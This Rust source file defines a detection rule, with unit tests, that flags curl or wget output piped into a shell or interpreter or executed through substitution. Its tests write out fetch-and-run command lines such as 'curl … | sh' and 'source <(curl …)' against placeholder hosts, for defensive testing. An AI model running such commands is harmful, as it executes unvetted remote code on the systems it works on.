//! Download Piped into a Shell or Interpreter.
//!
//! `curl … | sh` runs whatever a web server hands out, never touching disk
//! and leaving nothing to inspect afterwards. Installers use it too, but it
//! is above all how droppers and crypto-miners get a foothold: one line that
//! transfers a tool and runs it (ATT&CK T1105 Ingress Tool Transfer,
//! executed by T1059.004 Unix Shell).
//!
//! The rule fires when, in one pipeline, a `curl` or `wget` stage is
//! followed by a stage that runs a shell (`sh`, `bash`, …) or an
//! interpreter (`python3`, `perl`, `ruby`, `php`, `node`) *reading its
//! program from standard input* — no arguments, `-s`, `-` or `/dev/stdin` —
//! also behind `sudo`/`env` (`curl … | sudo -E bash -s -- --opt`). Stages in
//! between do not matter (`curl … | tee x.sh | sh` still runs the download).
//! It also fires when a download's output is executed by substitution:
//! `bash -c "$(curl …)"`, `eval "$(wget -qO- …)"`, `bash <(curl …)`,
//! `source <(curl …)`, or `$(curl …)` in command position.
//!
//! Deliberately not firing: downloads saved to a file (`curl -o x.sh`), even
//! when run by a later command; pipes into anything that is not a shell or
//! interpreter (`grep`, `jq`, `tee`, `tar`); and interpreters given their
//! program inline, for which the download is only data
//! (`curl … | python3 -m json.tool`, `curl … | python3 -c '…json.load…'`).

use dac_rule_sdk::prelude::*;

dac_rule_sdk::rule! {
    name: "Download Piped into a Shell or Interpreter",
    uuid: "7ce07b7e-a538-44fa-9508-7c67749aecdc",
    severity: High,
    description: "curl or wget output is piped straight into a shell or script interpreter (or executed via $(…) / <(…)), running remote code without saving it.",
    tags: [
        "attack.execution",
        "attack.t1059.004",
        "attack.command-and-control",
        "attack.t1105",
    ],
    prefilter: { fields: ["command_line"], literals: ["curl", "wget"] },
    evaluate: download_pipe_shell,
}

const DOWNLOADERS: &[&str] = &["curl", "wget"];
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh"];

fn download_pipe_shell(event: &Event) -> Option<Finding> {
    let command_line = event.text("command_line")?;
    let message = piped_download(&command_line).or_else(|| substituted_download(&command_line))?;
    Some(Finding::new(message).matched("command_line", command_line))
}

/// `curl … | [stages |] sh`: a download stage, then a stage running its input.
fn piped_download(command_line: &str) -> Option<String> {
    pipelines(command_line).find_map(|pipeline| {
        let mut downloader = None;
        stages(pipeline).find_map(|stage| {
            let words = words(stage);
            let (at, program) = program(&words)?;
            let name = basename(program);
            if let Some(downloader) = downloader {
                if runs_standard_input(name, &words[at + 1..]) {
                    return Some(format!("{downloader} output piped into {name}"));
                }
            }
            downloader = downloader.or(any_of(name, DOWNLOADERS));
            None
        })
    })
}

/// `bash -c "$(curl …)"`, `eval $(wget -qO- …)`, `bash <(curl …)`.
fn substituted_download(command_line: &str) -> Option<String> {
    substitutions(command_line).into_iter().find_map(|(before, process, inner)| {
        let downloader = pipelines(inner)
            .flat_map(stages)
            .find_map(|stage| any_of(basename(program(&words(stage))?.1), DOWNLOADERS))?;
        let executor = executor(before, process)?;
        Some(format!("{downloader} output executed by {executor}"))
    })
}

/// Whether `program` with `args` runs a program read from standard input.
fn runs_standard_input(program: &str, args: &[&str]) -> bool {
    let Some(inline) = inline_flags(program) else {
        return false;
    };
    let shell = any_of(program, SHELLS).is_some();
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        match *arg {
            "-" | "/dev/stdin" => return true,
            "-o" | "+o" | "-O" | "+O" | "-W" | "-X" => {
                args.next();
            }
            _ if arg.starts_with("--") => {}
            _ if arg.starts_with(['-', '+']) => {
                let flags = &arg[1..];
                if flags.contains(|c| inline.contains(c)) {
                    return false;
                }
                if shell && flags.contains('s') {
                    return true;
                }
            }
            // A script file: standard input is only its data.
            _ => return false,
        }
    }
    true
}

/// The flags that give an interpreter its program inline (`sh -c`,
/// `python -m`), or `None` if `name` is no shell or interpreter.
fn inline_flags(name: &str) -> Option<&'static str> {
    let python =
        name.strip_prefix("python").is_some_and(|version| version.chars().all(|c| c.is_ascii_digit() || c == '.'));
    if any_of(name, SHELLS).is_some() {
        Some("c")
    } else if python {
        Some("cm")
    } else {
        match name {
            "perl" => Some("eE"),
            "ruby" => Some("e"),
            "php" => Some("r"),
            "node" | "nodejs" => Some("ep"),
            _ => None,
        }
    }
}

/// Who executes the output of a substitution that follows `before`: `eval`,
/// a shell or interpreter given it as inline program (`sh -c "$(…)"`) or as
/// script (`bash <(…)`, `source <(…)`), or the shell itself when the
/// substitution stands in command position.
fn executor(before: &str, process: bool) -> Option<&str> {
    let before = before.trim_end_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"');
    if !process && (before.is_empty() || before.ends_with([';', '&', '|', '(', '{'])) {
        return Some("the shell (command position)");
    }
    let words = words(before);
    let (last, rest) = words.split_last()?;
    if process {
        let runs = matches!(*last, "source" | ".") || inline_flags(basename(last)).is_some();
        return runs.then_some(*last);
    }
    if *last == "eval" {
        return Some("eval");
    }
    let flags = short_flags(last)?;
    let program = rest.iter().rev().find(|word| !word.starts_with('-'))?;
    let inline = inline_flags(basename(program))?;
    flags.contains(|c| inline.contains(c)).then_some(*program)
}

/// Command and process substitutions (`$(…)`, `` `…` ``, `<(…)`), each as
/// the text before it, whether it is a process substitution, and its text.
fn substitutions(text: &str) -> Vec<(&str, bool, &str)> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        let parenthesised = matches!(bytes[at], b'$' | b'<') && bytes.get(at + 1) == Some(&b'(');
        if bytes[at] == b'`' {
            let end = text[at + 1..].find('`').map_or(text.len(), |end| at + 1 + end);
            found.push((&text[..at], false, &text[at + 1..end]));
            at = end + 1;
        } else if parenthesised {
            let mut depth = 0usize;
            let end = (at + 1..bytes.len())
                .find(|&i| {
                    match bytes[i] {
                        b'(' => depth += 1,
                        b')' => depth -= 1,
                        _ => {}
                    }
                    depth == 0
                })
                .unwrap_or(bytes.len());
            found.push((&text[..at], bytes[at] == b'<', &text[at + 2..end]));
            at += 2;
        } else {
            at += 1;
        }
    }
    found
}

/// The letters of a short-option cluster (`-fsSL` → `fsSL`).
fn short_flags(word: &str) -> Option<&str> {
    word.strip_prefix('-').filter(|flags| !flags.is_empty() && flags.chars().all(|c| c.is_ascii_alphabetic()))
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

// A minimal reading of shell text, good enough for command lines.

/// The pipelines of a command line: split at `;`, `&&`, `||` and newlines.
fn pipelines(text: &str) -> impl Iterator<Item = &str> {
    text.split([';', '\n']).flat_map(|list| list.split("&&")).flat_map(|list| list.split("||"))
}

/// The stages of a pipeline, split at `|`.
fn stages(pipeline: &str) -> impl Iterator<Item = &str> {
    pipeline.split('|')
}

/// The words of shell text. Quotes, parentheses and braces only separate
/// words; redirections (`2>&1`, `> file`) are dropped, descriptor numbers
/// and targets alike.
fn words(text: &str) -> Vec<&str> {
    let mut words = Vec::new();
    let mut start = None;
    for (at, c) in text.char_indices().chain([(text.len(), ' ')]) {
        let separator = c.is_whitespace() || "'\"`(){}<>&;|".contains(c);
        match (separator, start) {
            (true, Some(from)) => {
                start = None;
                if !is_redirection(text, from, at) {
                    words.push(&text[from..at]);
                }
            }
            (false, None) => start = Some(at),
            _ => {}
        }
    }
    words
}

/// Whether `text[from..to]` is a redirection's target or descriptor number.
fn is_redirection(text: &str, from: usize, to: usize) -> bool {
    let before = text[..from].trim_end_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"');
    let before = before.strip_suffix('&').filter(|b| b.ends_with(['<', '>'])).unwrap_or(before);
    before.ends_with(['<', '>'])
        || (text[from..to].bytes().all(|b| b.is_ascii_digit()) && text[to..].starts_with(['<', '>']))
}

/// The program a stage runs and its index: the first word after wrappers
/// (`sudo -u x`, `nohup`, `env A=b`), assignments, shell keywords and a
/// `sh -c` that hands the rest of the stage to a shell.
fn program<'t>(words: &[&'t str]) -> Option<(usize, &'t str)> {
    const SKIPPED: &[&str] = &[
        "sudo", "doas", "exec", "nohup", "setsid", "command", "builtin", "env", "nice", "timeout", "stdbuf", "busybox",
        "!", "$", "if", "then", "else", "do", "while", "until", "time",
    ];
    const VALUE_OPTIONS: &[&str] = &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"];
    let mut at = 0;
    while let Some(word) = words.get(at) {
        at += 1;
        let options = words[at..].iter().take_while(|option| option.starts_with('-'));
        if word.starts_with('-') {
            at += usize::from(any_of(word, VALUE_OPTIONS).is_some());
        } else if any_of(basename(word), SHELLS).is_some()
            && options.clone().any(|option| short_flags(option).is_some_and(|f| f.contains('c')))
        {
            at += options.count();
        } else if any_of(basename(word), SKIPPED).is_none()
            && !is_assignment(word)
            && !word.starts_with(|c: char| c.is_ascii_digit())
        {
            return Some((at - 1, word));
        }
    }
    None
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=')
        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

dac_rule_sdk::fixture_tests!(DetectionRule);

#[cfg(test)]
mod tests {
    use super::*;

    fn message(command_line: &str) -> Option<String> {
        // `{:?}` quotes and escapes as JSON does for these printable ASCII lines.
        let event = Event::from_json(&format!(r#"{{"command_line":{command_line:?}}}"#));
        DetectionRule::evaluate(&event).pop().map(|finding| finding.message)
    }

    #[test]
    fn pipes_into_a_shell_reading_stdin_fire() {
        assert_eq!(message("/bin/sh -c curl -fsSL http://x/i.sh | sh").unwrap(), "curl output piped into sh");
        assert_eq!(
            message("/bin/sh -c curl -s http://x/i.sh | sudo -E bash -s -- --yes").unwrap(),
            "curl output piped into bash"
        );
        assert!(message("/bin/sh -c wget -qO- http://x/i.sh | tee /tmp/i.sh | sh").is_some());
        assert!(message("/bin/sh -c curl -sSL https://install.python-poetry.org | python3 -").is_some());
        assert!(message("/bin/sh -c curl http://x/a | sh 2>/dev/null").is_some());
    }

    #[test]
    fn data_pipes_and_saved_files_do_not_fire() {
        assert!(message("/bin/sh -c curl -s https://x/v | python3 -m json.tool").is_none());
        assert!(message("/bin/sh -c curl -s https://x/v | python3 -c 'import json,sys; print(json.load(sys.stdin))'")
            .is_none());
        assert!(message("/bin/sh -c curl -s https://x/v | bash ./process.sh").is_none());
        assert!(message("/bin/sh -c curl -fsS https://x/health || bash -c 'systemctl restart app'").is_none());
        assert!(message("/bin/sh -c sh -c 'echo curl' | grep curl").is_none());
    }

    #[test]
    fn substitutions_that_execute_the_download_fire() {
        assert_eq!(
            message(r#"/bin/sh -c /bin/bash -c "$(curl -fsSL https://x/install.sh)""#).unwrap(),
            "curl output executed by /bin/bash"
        );
        assert_eq!(message("/bin/sh -c eval `wget -qO- http://x/env`").unwrap(), "wget output executed by eval");
        assert_eq!(message("/bin/bash -c source <(curl -s http://x/env)").unwrap(), "curl output executed by source");
        assert!(message("/bin/sh -c cd /tmp; $(curl -s http://x/cmd)").is_some());
        assert!(message(r#"/bin/sh -c echo "$(curl -s https://x/v)""#).is_none());
        assert!(message("/bin/sh -c v=$(curl -s https://x/v)").is_none());
    }

    /// The host skips events the prefilter rejects: none that must fire may be.
    #[test]
    fn prefilter_admits_every_must_fire_fixture() {
        let prefilter = DetectionRule::metadata().prefilter.unwrap();
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/must_fire.ndjson");
        for fixture in dac_rule_sdk::testing::read_fixtures(&path).unwrap() {
            let event = Event::from_json(&fixture.json);
            let admitted = prefilter
                .fields
                .iter()
                .filter_map(|field| event.text(field))
                .any(|text| prefilter.literals.iter().any(|literal| contains(&text, literal)));
            assert!(admitted, "must_fire.ndjson:{}: rejected by the prefilter", fixture.line);
        }
    }
}
